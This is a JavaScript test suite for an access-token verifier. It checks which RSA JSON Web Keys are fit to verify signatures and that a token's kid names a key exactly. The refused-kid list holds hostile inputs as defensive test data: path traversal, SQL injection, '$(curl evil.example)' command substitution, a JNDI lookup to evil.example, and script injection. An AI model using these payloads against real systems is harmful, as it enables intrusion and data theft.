// Which access tokens are good: the key that they name. It is one of the issuer's own, fit to check
// a signature, and named to the letter by its kid and by nothing else.
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { describe, test } from "node:test";

import { authenticateOnSocket } from "../support/token_checks.mjs";
import { jwk, otherKey, signingKey, undersizedKey } from "../support/keys.mjs";
import { Tenant } from "../support/tenant.mjs";
import { reasons, verdictsFor } from "../support/token_tests.mjs";
import { startWorker } from "../support/worker.mjs";

const worker = await startWorker();
const tenant = new Tenant(worker);
const { accepted, refused } = verdictsFor(tenant);
const good = jwk(signingKey(), "key-1");

const rsa = (modulusLength, publicExponent = 65_537) =>
  generateKeyPairSync("rsa", { modulusLength, publicExponent });
/** The same number with so many zeros before it, or with its last bit changed. */
const padded = (number, zeros) =>
  Buffer.concat([Buffer.alloc(zeros), Buffer.from(number, "base64url")]).toString("base64url");
const odd = Buffer.from(good.n, "base64url");
const even = Buffer.from(odd.map((byte, place) => (place === odd.length - 1 ? byte ^ 1 : byte)));

// Keys of their own; each is listed under its kid.
const FIT_PAIRS = {
  "of 2056 bits": rsa(2056),
  "of 2049 bits": rsa(2049),
  "of 4096 bits": rsa(4096),
  "with an exponent of 3": rsa(2048, 3),
  "with an exponent of 37": rsa(2048, 37),
};
const UNFIT_PAIRS = {
  "of 1024 bits": undersizedKey(),
  "of 2040 bits": rsa(2040),
  "of 2047 bits": rsa(2047),
  "with an exponent of 5": rsa(2048, 5),
  "with an exponent of 257": rsa(2048, 257),
  "with an exponent of 65,539": rsa(2048, 65_539),
  "with an exponent of 32 bits": rsa(2048, 4_294_967_291),
};
// The good key with something changed in its entry.
const FIT_ENTRIES = {
  "that says nothing of its purpose": { use: undefined, alg: undefined },
  "for RS256": { alg: "RS256" },
  "to verify": { key_ops: ["verify"] },
  "to sign and verify": { key_ops: ["sign", "verify"] },
  "with zeros before its modulus": { n: padded(good.n, 3) },
  "with zeros before its exponent": { e: padded(good.e, 3) },
  "with a certificate and a thumbprint": { x5c: ["MIIB"], x5t: "AAAA", x5u: "https://x.example/" },
  "with fields from the future": { nbf: 1, trusted: false },
};
const UNFIT_ENTRIES = {
  "to encrypt": { use: "enc" },
  "for USE SIG": { use: "SIG" },
  "for a list of uses": { use: ["sig"] },
  "for no use": { use: "" },
  "to sign": { key_ops: ["sign"] },
  "to do nothing": { key_ops: [] },
  "to VERIFY": { key_ops: ["VERIFY"] },
  "with an operation that is no list": { key_ops: "verify" },
  "for RS512": { alg: "RS512" },
  "for HS256": { alg: "HS256" },
  "for RSA-OAEP": { alg: "RSA-OAEP" },
  "for rs256": { alg: "rs256" },
  "for PS256": { alg: "PS256" },
  "for a list of algorithms": { alg: ["RS256"] },
  "that is no RSA key": { kty: "EC" },
  "of kty rsa": { kty: "rsa" },
  "of no kty": { kty: undefined },
  "without a modulus": { n: undefined },
  "without an exponent": { e: undefined },
  "with an empty modulus": { n: "" },
  "with a modulus of zeros": { n: Buffer.alloc(256).toString("base64url") },
  "with a modulus that is no base64url": { n: "!!!" },
  "with a modulus in base64": { n: odd.toString("base64") },
  "with a modulus in hexadecimals": { n: `0x${odd.toString("hex")}` },
  "with a number for a modulus": { n: 7 },
  "of 8200 bits": { n: Buffer.alloc(1_025, 0xff).toString("base64url") },
  "with an exponent of 0": { e: "AA" },
  "with an exponent of 1": { e: "AQ" },
  "with an exponent of 2": { e: "Ag" },
  "with an even exponent": { e: "AQAA" },
  "with an exponent with bits left over": { e: "AQAC" },
  "with a number for an exponent": { e: 65_537 },
  "with a huge exponent": { e: good.n },
  "that is published with its private half": signingKey().privateKey.export({ format: "jwk" }),
};
const unfit = { ...UNFIT_ENTRIES, ...UNFIT_PAIRS };

const IDS = ["__proto__", "constructor", "schlüssel".normalize("NFC"), "1", "a b/c?d#e%20'\"\\"];
const VERY_LONG = "k".repeat(2_000);
tenant.issuer.keys = [
  good,
  ...Object.entries({ ...FIT_PAIRS, ...UNFIT_PAIRS }).map(([kid, pair]) => jwk(pair, kid)),
  ...Object.entries({ ...FIT_ENTRIES, ...UNFIT_ENTRIES }).map(([kid, fields]) => ({
    ...good,
    ...fields,
    kid,
  })),
  ...[...IDS, VERY_LONG].map((kid) => ({ ...good, kid })),
  { ...good, kid: "for PS256 alone", alg: "PS256" },
  { ...good, kid: "with an even modulus", n: even.toString("base64url") },
  { ...jwk(undersizedKey(), "of 1024 bits in 2048"), n: padded(jwk(undersizedKey()).n, 128) },
  ...["twice", "twice"].map((kid) => ({ ...good, kid })),
  ...[good, jwk(otherKey())].map((key) => ({ ...key, kid: "two keys" })),
  ...["RS256", "PS256"].map((alg) => ({ ...good, kid: "once for each algorithm", alg })),
  { ...good, kid: 7 },
  { ...good, kid: undefined },
  { ...good, kid: null },
  null,
  7,
  "key-1",
  [],
  {},
  { kty: "OKP", kid: "from-the-future", crv: "X448" },
];

describe("a token by a key", { concurrency: 20 }, () => {
  for (const [kid, { privateKey: key }] of Object.entries(FIT_PAIRS)) {
    accepted(kid, () => tenant.token({}, { kid }, { key }));
    accepted(`${kid} and with PS256`, () => tenant.token({}, { kid, alg: "PS256" }, { key }));
  }
  for (const kid of Object.keys(FIT_ENTRIES)) accepted(kid, () => tenant.token({}, { kid }));
  accepted("for PS256", () => tenant.token({}, { kid: "for PS256 alone", alg: "PS256" }));
  for (const alg of ["RS256", "PS256"]) {
    accepted(`that is there once for each algorithm, with ${alg},`, () =>
      tenant.token({}, { kid: "once for each algorithm", alg }),
    );
  }

  for (const kid of Object.keys(unfit)) {
    const key = UNFIT_PAIRS[kid]?.privateKey ?? signingKey().privateKey;
    refused(kid, () => tenant.token({}, { kid }, { key }), reasons.key);
  }
  refused(
    "of 1024 bits with as many zeros before them",
    () => {
      const options = { key: undersizedKey().privateKey };
      return tenant.token({}, { kid: "of 1024 bits in 2048" }, options);
    },
    reasons.key,
  );
  refused(
    "for RS256, with PS256,",
    () => tenant.token({}, { kid: "for RS256", alg: "PS256" }),
    reasons.key,
  );
  refused(
    "with an even modulus",
    () => tenant.token({}, { kid: "with an even modulus" }),
    reasons.signature,
  );
  for (const kid of ["twice", "two keys"]) {
    refused(`whose kid names ${kid}`, () => tenant.token({}, { kid }), reasons.ambiguous);
  }
  refused(
    "of a stranger under a known kid",
    () => tenant.token({}, {}, { key: otherKey().privateKey }),
    reasons.signature,
  );
});

describe("a token with the kid", { concurrency: 20 }, () => {
  for (const kid of IDS) accepted(JSON.stringify(kid), () => tenant.token({}, { kid }));
  accepted("of 2,000 letters that a key has", () => tenant.token({}, { kid: VERY_LONG }));

  const ELSEWHERE = "https://evil.example/keys.json";
  const UNKNOWN = [
    ...["", "unknown", "from-the-future", "undefined", "null", "7", "[object Object]", "0"],
    ...["KEY-1", "key-1 ", " key-1", "key-1\n", "key-1\t", "key-1\r\nx: y", "key-1\0", "\0"],
    ...["key-1/", "./key-1", "key-1#", "key-1?x", "key%2D1", "key-1%00", "key\\u002d1", "key_1"],
    ...["key‐1", "ｋey-1", "kеy-1", "\ufeffkey-1", "key-1\u200b", "key-1\u0301", "\u202ekey-1"],
    ...["schlüssel".normalize("NFD"), "SCHLÜSSEL", "key-1,twice", "key", "key-", "%", "*", ".*"],
    ...["../../../../../../dev/null", "/dev/null", "..\\..\\nul", "file:///dev/null", ELSEWHERE],
    ...["x' OR '1'='1", "x'; DROP TABLE key_sets; --", '" OR ""="', "key-1' --"],
    ...["prototype", "toString", "hasOwnProperty", "valueOf", "length"],
    ...["$(curl evil.example)", "`id`", "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>"],
    ...[VERY_LONG.slice(1), "x".repeat(5_500), "\u{1f511}".repeat(200)],
  ];
  for (const kid of UNKNOWN) {
    const name = kid.length < 40 ? kid : `${kid.slice(0, 20)}… of ${kid.length} letters`;
    refused(JSON.stringify(name), () => tenant.token({}, { kid }), reasons.key);
  }
  for (const kid of [undefined, null]) {
    refused(`${kid}`, () => tenant.token({}, { kid }), reasons.key);
  }
  for (const kid of [1, 7, -0, 1e300, true, ["key-1"], { kid: "key-1" }, []]) {
    refused(JSON.stringify(kid), () => tenant.token({}, { kid }), reasons.form);
  }

  const neighbour = new Tenant(worker);
  neighbour.issuer.keys = [{ ...good, kid: "the neighbour's" }];
  refused(
    "of another tenant's key",
    () => tenant.token({}, { kid: "the neighbour's" }),
    reasons.key,
  );
  test("of another tenant's key is accepted there", async () => {
    const token = neighbour.token({}, { kid: "the neighbour's" });
    assert.equal(await authenticateOnSocket(neighbour, token), "accepted");
  });
});
